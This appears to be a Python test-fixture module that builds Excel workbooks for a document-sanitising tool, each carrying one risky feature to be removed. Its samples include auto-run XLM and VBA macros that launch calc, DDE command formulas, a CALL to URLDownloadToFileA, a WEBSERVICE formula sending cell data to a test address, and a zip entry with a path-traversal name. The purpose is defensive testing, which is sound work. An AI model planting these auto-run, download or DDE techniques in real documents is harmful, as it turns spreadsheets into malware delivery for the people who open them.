"""Excel workbooks, each with one thing that must go (or that policy decides about)."""

# ruff: noqa: E501 - lines of XML and of the table stay whole

from __future__ import annotations

from samples.build._ooxml_excel import NAMESPACES, SHEET, X, formula_cell, row, sheet, text_cell, workbook
from samples.build._opc import MS, OPEN, PACKAGE, Link, grey_png, zipped
from samples.build._vba import vba_project

_ROWS = row(1, text_cell("A1", "残る値"), '<c r="B1"><v>42</v></c>')


def macro_workbook() -> bytes:
    """xlsm with a VBA project, Excel 4.0 macro sheet, dialog sheet, Auto_Open, and a sheet that keeps its formulas."""
    package = workbook(
        _ROWS + row(2, formula_cell("A2", "SUM(B1,1)", "43")),
        main="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        sheets='<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId3"/><sheet name="Dialog1" sheetId="3" r:id="rId4"/>'
        '<sheet name="後の表" sheetId="4" r:id="rId6"/>',
        names='<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Run" xlm="1" function="1">Macro1!$A$1</definedName>'
        '<definedName name="_xlnm.Print_Area" localSheetId="3">後の表!$A$1</definedName>',
        book_links=(
            Link("rId3", f"{MS}2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"),
            Link("rId4", "dialogsheet", "dialogsheets/sheet1.xml"),
            Link("rId5", f"{MS}2006/relationships/vbaProject", "vbaProject.bin"),
            Link("rId6", "worksheet", "worksheets/sheet2.xml"),
        ),
    )
    macro = f'<xm:macrosheet xmlns:xm="{MS}excel/2006/main" xmlns="{X}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    package.add("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", macro)
    package.add(
        "xl/dialogsheets/sheet1.xml", f"{OPEN}spreadsheetml.dialogsheet+xml", f"<dialogsheet {NAMESPACES}><sheetPr/></dialogsheet>"
    )
    package.add(
        "xl/vbaProject.bin",
        "application/vnd.ms-office.vbaProject",
        vba_project({"ThisWorkbook": 'Sub Workbook_Open()\r\n    Shell "calc"\r\nEnd Sub\r\n'}),
    )
    package.add("xl/worksheets/sheet2.xml", SHEET, sheet(row(1, text_cell("A1", "後の表の値"))))
    return package.build()


def formulas() -> bytes:
    """WEBSERVICE, DDE, CALL, another book and a link to a program beside formulas that stay; the values of all stay."""
    rows = (
        _ROWS
        + row(2, formula_cell("A2", "WEBSERVICE(&quot;http://192.0.2.7/?&quot;&amp;B1)", "取得値", "str"))
        + row(3, formula_cell("A3", "cmd|' /C calc'!A0", "0"))
        + row(4, formula_cell("A4", "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;)", "0"))
        + row(5, formula_cell("A5", "HYPERLINK(&quot;file:///c:/x.exe&quot;,&quot;開く&quot;)", "開く", "str"))
        + row(6, formula_cell("A6", "SUM(B1:B1)+IF(B1&gt;1,1,0)", "43"))
        + row(7, formula_cell("A7", "Table['#x]+EXEC(&quot;calc&quot;)&amp;T['#y]", "1"))
        + row(8, formula_cell("A8", "_xlfn.IMAGE(&quot;http://192.0.2.7/i.png&quot;)", "0"))
    )
    return workbook(rows).build()


def dde_link() -> bytes:
    """A DDE server as an external link."""
    package = workbook(
        row(1, formula_cell("A1", "[1]!'!A0'", "7")),
        references='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        book_links=(Link("rId9", "externalLink", "externalLinks/externalLink1.xml"),),
    )
    link = f'<externalLink {NAMESPACES}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    package.add("xl/externalLinks/externalLink1.xml", f"{OPEN}spreadsheetml.externalLink+xml", link)
    return package.build()


def external_book() -> bytes:
    """Values from another workbook on a share: they stay, the reference goes."""
    package = workbook(
        row(1, formula_cell("A1", "[1]集計!$B$2*2", "246")) + row(2, formula_cell("A2", "'[1]集計 表'!A1", "外部の値", "str")),
        references='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        names='<definedName name="外部">[1]集計!$A$1</definedName>',
        book_links=(Link("rId9", "externalLink", "externalLinks/externalLink1.xml"),),
    )
    link = f'<externalLink {NAMESPACES}><externalBook r:id="rId1"><sheetNames><sheetName val="集計"/></sheetNames></externalBook></externalLink>'
    path = Link("rId1", "externalLinkPath", "file:///\\\\192.0.2.7\\share\\集計.xlsx", external=True)
    package.add("xl/externalLinks/externalLink1.xml", f"{OPEN}spreadsheetml.externalLink+xml", link, path)
    return package.build()


def connection() -> bytes:
    """A database connection, a query table and a pivot cache of an outside source."""
    package = workbook(
        _ROWS,
        book_links=(
            Link("rId8", "connections", "connections.xml"),
            Link("rId9", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml"),
        ),
        references="",
    )
    connect = f'<connections {NAMESPACES}><connection id="1" type="1" name="c" refreshedVersion="6"><dbPr connection="DRIVER=x;SERVER=192.0.2.7" command="SELECT"/></connection></connections>'
    package.add("xl/connections.xml", f"{OPEN}spreadsheetml.connections+xml", connect)
    cache = f'<pivotCacheDefinition {NAMESPACES}><cacheSource type="external" connectionId="1"/><cacheFields count="0"/></pivotCacheDefinition>'
    package.add("xl/pivotCache/pivotCacheDefinition1.xml", f"{OPEN}spreadsheetml.pivotCacheDefinition+xml", cache)
    query = f'<queryTable {NAMESPACES} name="q" connectionId="1"/>'
    package.link("xl/worksheets/sheet1.xml", Link("rIdQ", "queryTable", "../queryTables/queryTable1.xml"))
    package.add("xl/queryTables/queryTable1.xml", f"{OPEN}spreadsheetml.queryTable+xml", query)
    return package.build()


def custom_ui() -> bytes:
    """A ribbon with a button that calls a macro."""
    package = workbook(_ROWS)
    package.link("", Link("rIdUi", f"{MS}2006/relationships/ui/extensibility", "customUI/customUI.xml"))
    package.add("customUI/customUI.xml", "", f'<customUI xmlns="{MS}2006/01/customui" onLoad="Evil"/>')
    return package.build()


def signed() -> bytes:
    """A package with a (hollow) digital signature."""
    package = workbook(_ROWS)
    package.link("", Link("rIdSig", f"{PACKAGE}digital-signature/origin", "_xmlsignatures/origin.sigs"))
    package.add(
        "_xmlsignatures/origin.sigs",
        "application/vnd.openxmlformats-package.digital-signature-origin",
        b"",
        Link("rId1", f"{PACKAGE}digital-signature/signature", "sig1.xml"),
    )
    package.add(
        "_xmlsignatures/sig1.xml",
        "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml",
        '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
    )
    return package.build()


_ANCHOR = '<x:ClientData ObjectType="Pict"><x:Anchor>1, 0, 3, 0, 3, 0, 6, 0</x:Anchor></x:ClientData>'
_VML = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
    f'<v:shape id="_x0000_s1025" style="position:absolute;width:60pt;height:40pt"><v:imagedata o:relid="rId1" o:title=""/>{_ANCHOR}<br></v:shape></xml>'
)


def ole_in_sheet() -> bytes:
    """An OLE object on a sheet; its drawing is not well-formed, as old Excel wrote it, and its picture stays."""
    after = '<legacyDrawing r:id="rIdVml"/><oleObjects><oleObject progId="Package" shapeId="1025" r:id="rIdOle"/></oleObjects>'
    package = workbook(
        _ROWS,
        Link("rIdVml", "vmlDrawing", "../drawings/vmlDrawing1.vml"),
        Link("rIdOle", "oleObject", "../embeddings/oleObject1.bin"),
        after=after,
    )
    package.add("xl/drawings/vmlDrawing1.vml", f"{OPEN}vmlDrawing", _VML.encode(), Link("rId1", "image", "../media/image1.png"))
    package.add("xl/media/image1.png", "", grey_png())
    package.add("xl/embeddings/oleObject1.bin", f"{OPEN}oleObject", b"OLE payload of the sample")
    return package.build()


def irregular_zip() -> bytes:
    """Two members with one name, a path that leads out, and bytes in front of the ZIP's end."""
    members = workbook(_ROWS).members()
    members["../evil.txt"] = b"path that leads out"
    data = zipped(members)
    return data + b"bytes after the end"


def strict_book() -> bytes:
    """ISO/IEC 29500 strict: comes out in the transitional namespaces."""
    members = workbook(_ROWS + row(2, formula_cell("A2", "SUM(B1,1)", "43"))).members()
    changes = (
        (b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
        (
            b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            b"http://purl.oclc.org/ooxml/officeDocument/relationships",
        ),
    )
    strict = {}
    for name, data in members.items():
        for old, new in changes:
            data = data.replace(old, new)
        strict[name] = data
    return zipped(strict)
